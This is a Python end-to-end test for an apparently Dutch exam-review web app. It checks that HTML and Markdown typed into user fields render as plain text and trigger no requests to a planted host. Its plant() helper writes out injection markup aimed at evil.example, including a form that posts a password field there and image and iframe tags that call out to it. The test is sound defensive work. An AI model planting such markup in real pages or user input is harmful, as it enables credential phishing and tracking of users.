"""User text is shown as text on every page: no element and no request from planted markup.

Every field a user can type (candidate, conversation title, transcript line, correction,
speaker name, tag note, score comment and n.v.t. reason, display names, calibration title
and notes, library description and excerpt) gets HTML (form, iframe, img, a) and Markdown
(image, link, autolink) aimed at a planted host. Then every page is opened in Chromium, as
the beheerder, and the rendered DOM (shadow roots of the player included) must hold none
of those elements, and the browser must not ask the planted host for anything.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from ksf_review.adapters.transcription import FakeEngine
from ksf_review.domain.transcript import Segment
from ksf_review.services import accounts, exams, library, scoring, tagging
from ksf_review.services import calibration as cal
from ksf_review.services import conversations as convs
from ksf_review.services import transcript_edits as edits
from ksf_review.services import transcription_jobs as jobs
from tests.conftest import ALL_ITEMS, library_doc, library_example, library_zip, make_wav, timed_segments
from tests.e2e.conftest import PASSWORD, admin_of, app_context, app_env, login
from tests.e2e.conftest import settle as settle_app

pytestmark = pytest.mark.e2e
ROOT = Path(__file__).resolve().parents[2]
HOST = "evil.example"
ITEMS = ALL_ITEMS


def plant(tag: str) -> str:
    """Hostile text with a visible, tag-specific start (to find it shown as text)."""
    return (
        f'PLANT-{tag} <form id="planted-form-{tag}" action="http://{HOST}/f"><input name="pw"></form>'
        f'<iframe id="planted-iframe-{tag}" src="http://{HOST}/{tag}"></iframe>'
        f'<img class="planted-img" src="http://{HOST}/{tag}.png">'
        f'<a id="planted-a-{tag}" href="http://{HOST}/a">a</a> ![x](http://{HOST}/{tag}-md.png) '
        f"[link](http://{HOST}/{tag}-l) www.{HOST} jan@{HOST}"
    )


def segments() -> list[Segment]:
    lines = [
        ("medewerker", plant("REGEL")),
        ("klant", "Ik heb een vraag over mijn jaarafrekening"),
        ("medewerker", "Als ik u goed begrijp is de afrekening hoger klopt dat"),
    ]
    return timed_segments(lines)


def _library_zip() -> bytes:
    return library_zip(library_doc(library_example(item="1.1a", description=plant("BIB"), excerpt=plant("FRAG"))))


def _seed(ctx, data: Path) -> None:
    admin = admin_of(ctx)
    anna = accounts.create_user(ctx, admin, "anna", "examinator", PASSWORD, plant("NAAM1"))
    bert = accounts.create_user(ctx, admin, "bert", "examinator", PASSWORD, plant("NAAM2"))
    exam = exams.create_exam(ctx, admin, plant("KAND"))
    audio = convs.add_audio_conversation(
        ctx, admin, exam.id, "gesprek.wav", make_wav(data / "g.wav", seconds=20, freq=220).read_bytes(), title=plant("TITEL")
    )
    jobs.run_pending(ctx)
    chat = convs.add_text_conversation(
        ctx, admin, exam.id, f"K: {plant('CHATREGEL')}\nM: Dat regel ik graag.", channel="chat", title=plant("CHAT")
    )
    convs.add_text_conversation(ctx, admin, exam.id, "K: Vraag\nM: Antwoord", channel="e-mail", title="Derde")
    edits.rename_speaker(ctx, admin, audio.id, "klant", plant("SPREKER"))
    edits.edit_segment(ctx, admin, audio.id, 1, text=plant("CORR"))
    seg = segments()[0]
    tagging.add_tag(ctx, admin, audio.id, seg.start, seg.end, "1.1a", "+", plant("NOTE"), excerpt=seg.text)
    tagging.add_tag(ctx, admin, chat.id, 0, 1, "1.1b", "-", plant("CHATNOTE"))
    scoring.set_item_score(ctx, admin, exam.id, "1.1e", "niet_behaald", "", plant("OPM"))
    scoring.set_item_score(ctx, admin, exam.id, "3.2", "nvt", plant("REDEN"), "")
    session = cal.create_session(ctx, admin, plant("SESSIE"), [anna.id, bert.id], exam_id=exam.id)
    for who, over in ((anna, {}), (bert, {"1.1a": "niet_behaald"})):
        aid = cal.my_assessment(ctx, who, session.id)
        for code in ITEMS:
            cal.set_score(ctx, who, aid, code, over.get(code, "behaald"), "", "")
        tagging.add_tag(ctx, who, chat.id, 0, 1, "1.1a", "+", plant("CALNOTE"), assessment_id=aid)
        cal.submit(ctx, who, aid)
    cal.reveal(ctx, admin, session.id)
    for code in ITEMS:
        cal.set_consensus(ctx, admin, session.id, code, "behaald", plant("CONS") if code == "1.1a" else "")
    library.import_zip(ctx, admin, _library_zip())


@pytest.fixture(scope="module")
def app_url(tmp_path_factory, streamlit_server_module):
    data = tmp_path_factory.mktemp("e2e-escape")
    env = app_env(data)
    with app_context(env, engine_factory=lambda: FakeEngine(segments=segments())) as ctx:
        _seed(ctx, data)
    return streamlit_server_module(ROOT / "app.py", env=env)


# Every element anywhere (document, shadow roots, same-origin frames) that planted markup made.
SCAN = """() => {
  const sel = '[id^="planted"], [class*="planted"], input[name="pw"], [src*="%(host)s"], [href*="%(host)s"],'
            + ' [action*="%(host)s"], [srcdoc], [data*="%(host)s"], [poster*="%(host)s"]';
  const hits = [];
  const walk = (root) => {
    root.querySelectorAll(sel).forEach((el) => hits.push(el.outerHTML.slice(0, 160)));
    root.querySelectorAll('*').forEach((el) => {
      if (el.shadowRoot) walk(el.shadowRoot);
      if (el.tagName === 'IFRAME') { try { if (el.contentDocument) walk(el.contentDocument); } catch (e) {} }
    });
  };
  walk(document);
  return hits;
}""" % {"host": HOST}

# All text on the page, shadow roots included (innerText stops at a shadow root).
TEXT = """() => {
  const parts = [document.body.innerText];
  const walk = (root) => root.querySelectorAll('*').forEach((el) => {
    if (el.shadowRoot) { parts.push(el.shadowRoot.textContent); walk(el.shadowRoot); }
  });
  walk(document);
  return parts.join('\\n').replaceAll('\\u2060', '');
}"""


def settle(page, *texts: str) -> str:
    """Wait until the script run ended and `texts` are on the page; returns all page text."""
    for t in texts:
        try:
            page.wait_for_function("(t) => (" + TEXT + ")().toLowerCase().includes(t)", arg=t.lower(), timeout=90000)
        except Exception as exc:  # say which text never showed
            raise AssertionError(f"not shown as text: {t!r}\n{page.evaluate(TEXT)[:3000]}") from exc
    settle_app(page)  # the run has ended and its last delta is drawn
    return page.evaluate(TEXT).lower()


def shown_as_text(tag: str) -> str:
    """How the start of plant(tag) reads when it is shown as text."""
    return f'PLANT-{tag} <form id="planted-form-{tag}"'


def goto(page, name: str) -> None:
    page.locator('[data-testid="stSidebarNav"]').get_by_role("link", name=name).click()
    page.get_by_role("heading", name=name).first.wait_for(timeout=60000)


def test_planted_markup_stays_text_on_every_page(browser, app_url, tmp_path):
    ctx = browser.new_context(viewport={"width": 1400, "height": 1200})
    page = ctx.new_page()
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    found: dict[str, list[str]] = {}

    def check(where: str, *tags: str) -> None:
        text = settle(page, *(shown_as_text(t) for t in tags))
        for t in tags:
            assert shown_as_text(t).lower() in text, (where, t)  # (the player capitalises speakers)
        hits = page.evaluate(SCAN)
        if hits:
            found[where] = hits

    try:
        login(page, app_url)
        check("Examens", "KAND", "TITEL", "CHAT")

        goto(page, "Beoordelen")
        check("Beoordelen (opname)", "REGEL", "SPREKER", "NOTE", "CORR")
        page.get_by_label("Gesprek", exact=True).first.click()
        page.get_by_role("option", name="PLANT-CHAT", exact=False).first.click()
        check("Beoordelen (chat)", "CHATREGEL", "CHATNOTE")

        goto(page, "Checklist")
        check("Checklist", "NOTE", "CHATNOTE", "TITEL")

        goto(page, "Kalibratie")
        check("Kalibratie", "NAAM1", "CHAT")

        goto(page, "Bibliotheek")
        check("Bibliotheek", "BIB", "FRAG")

        goto(page, "Beheer")
        check("Beheer")
    finally:
        page.screenshot(path=str(tmp_path / "laatste.png"), full_page=True)
        ctx.close()
    assert not found, json.dumps(found, indent=1, ensure_ascii=False)[:4000]
    leaked = [u for u in requests if HOST in u]
    assert not leaked, leaked
